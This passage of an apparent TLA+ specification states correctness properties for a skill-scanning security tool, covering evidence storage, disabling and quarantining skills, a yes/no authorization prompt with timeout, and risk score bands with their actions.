    (/\ saving.pc = "saved"
     /\ result.op = "loadEvidence"
     /\ result.ret.id = saving.evidence.id) =>
        /\ saving.filepath = <<"EVIDENCE_DIR", <<saving.evidence.id, ".json">>>>
        /\ result.ret.evidence # Null
        /\ result.ret.evidence = EvidenceValue(saving.evidence)

\* A record with two findings has been saved over the file of an earlier save
\* and loaded.
C31_Witness ==
    /\ saving.pc = "saved"
    /\ result.op = "loadEvidence"
    /\ result.ret.id = saving.evidence.id
    /\ Len(saving.evidence.findings) = 2
    /\ saving.evidence.id = EarlierEvidence.id
    /\ result.ret.evidence.type = "object"

\* C32: a direct call of disableSkill fails only when the store cannot be
\* written, and then changes nothing; otherwise, whatever the store held (no
\* entry, an entry enabled, disabled, quarantined or allowlisted), the entry of
\* the key afterwards has enabled false and, besides enabled, exactly the fields
\* it had before with their values (the quarantine block and _allowlisted among
\* them, none added); no backup is created.
C32_DisableOnlySetsEnabledFalse ==
    [][result'.op = "disableSkill" =>
        LET k == result'.ret.skillKey
            old == IF HoldsEntry(config, k) THEN StoredEntry(config, k) ELSE EmptyObject
        IN  /\ backups' = backups
            /\ evidenceDir' = evidenceDir
            /\ ~result'.ret.success =>
                  /\ result'.ret.message = "Failed to disable"
                  /\ config' = config
            /\ result'.ret.success =>
                  /\ HoldsEntry(config', k)
                  /\ StoredEntry(config', k).enabled = FALSE
                  /\ DOMAIN StoredEntry(config', k) = DOMAIN old \cup {"enabled"}
                  /\ \A f \in DOMAIN old \ {"enabled"} :
                        StoredEntry(config', k)[f] = old[f]]_vars

\* disableSkill has succeeded on an entry that is quarantined and allowlisted.
C32_Witness ==
    /\ result.op = "disableSkill"
    /\ result.ret.success
    /\ HoldsEntry(config, result.ret.skillKey)
    /\ Has(StoredEntry(config, result.ret.skillKey), "_quarantine")
    /\ Has(StoredEntry(config, result.ret.skillKey), "_allowlisted")
    /\ StoredEntry(config, result.ret.skillKey).enabled = FALSE

\* C33: a requireAuth that has begun to wait for the user returns; a call that
\* met the timeout returned authorized false, and a call returned authorized
\* true only with a TTY and an answer that is yes in some letter case.
C33_RequireAuthReturns ==
    /\ (prompt.pc # "idle") ~> (prompt.pc = "idle" /\ authResult # NoAuthResult)
    /\ [](authResult # NoAuthResult =>
            /\ authResult.env.answer = "timeout" => ~authResult.authorized
            /\ authResult.authorized =>
                  /\ authResult.env.isTTY
                  /\ authResult.env.answer \in {"yes", "YES", "Yes"})

\* requireAuth has returned after the timer ran out without an answer.
C33_Witness ==
    /\ prompt.pc = "idle"
    /\ authResult # NoAuthResult
    /\ authResult.fn = "requireAuth"
    /\ authResult.env.answer = "timeout"
    /\ ~authResult.authorized

\* C34: the level and action assessRisk returns follow the score bands of the
\* documented Risk Levels table: 100 and more is CRITICAL (quarantine), 50 to 99
\* HIGH (disable), 20 to 49 MEDIUM (warn), 5 to 19 LOW (log).
C34_LevelFollowsDocumentedBands ==
    pcA = "done" =>
        /\ assessment.score >= 100 =>
              assessment.level = "CRITICAL" /\ assessment.action = "quarantine"
        /\ (assessment.score >= 50 /\ assessment.score <= 99) =>
              assessment.level = "HIGH" /\ assessment.action = "disable"
        /\ (assessment.score >= 20 /\ assessment.score <= 49) =>
              assessment.level = "MEDIUM" /\ assessment.action = "warn"
        /\ (assessment.score >= 5 /\ assessment.score <= 19) =>
              assessment.level = "LOW" /\ assessment.action = "log"

\* C35: in every state of the store, an entry that carries a quarantine block has
\* enabled false.
C35_QuarantinedIsDisabled ==
    \A k \in SkillKeys \cup {BystanderKey} :
        (HoldsEntry(config, k) /\ Has(StoredEntry(config, k), "_quarantine")) =>
            /\ Has(StoredEntry(config, k), "enabled")
            /\ StoredEntry(config, k).enabled = FALSE

\* C36: when the store file exists and cannot be parsed, a quarantine, a disable
\* or an allowlist (called directly or by a command) leaves the file as it is:
\* it is not replaced by a document without what the file held.
C36_UnreadableStoreNotReplaced ==
    [][(/\ config = FileCorrupt
        /\ result'.op \in {"quarantineSkill", "disableSkill", "allowlistSkill",
                           "govQuarantine", "govScan", "govAllow"}) =>
            config' = config]_vars

\* C37: with a file in the evidence directory that cannot be parsed, and in
\* whatever order readdir lists the files, findEvidenceForSkill(k) returns every
\* record of k that can be read.
C37_UnreadableEvidenceSkipped ==
    (/\ result.op = "findEvidenceForSkill"
     /\ \E id \in EvidenceFiles : evidenceDir[id] = FilePartial) =>
        \A ev \in StoredEvidenceOf(result.ret.skillKey) :
            \E i \in DOMAIN result.ret.evidence : result.ret.evidence[i] = ev

\* C38: every combo in the combos assessRisk returns has its COMBO line among
\* the reasons returned, also when the list holds 10 or more CRITICAL or HIGH
\* findings.
C38_EveryComboExplained ==
    pcA = "done" =>
        \A i \in DOMAIN assessment.combos :
            \E j \in DOMAIN assessment.reasons :
                /\ assessment.reasons[j].kind = "COMBO"
                /\ assessment.reasons[j].name = assessment.combos[i].name

\* C39: every finding scanSkill returns, pushed for a match in a file or for the
\* install command of the metadata, has a line number of at least 1 and a file
\* path below the skill root (not empty, not beginning with the root's path).
C39_FindingsHaveLineAndRelativePath ==
    result.op = "scanSkill" =>
        \A i \in DOMAIN result.ret.findings :
            LET f == result.ret.findings[i]
                root == result.ret.skill.path
            IN  /\ f.line >= 1
                /\ f.file # <<>>
                /\ ~(Len(f.file) >= Len(root) /\ SubSeq(f.file, 1, Len(root)) = root)

=============================================================================
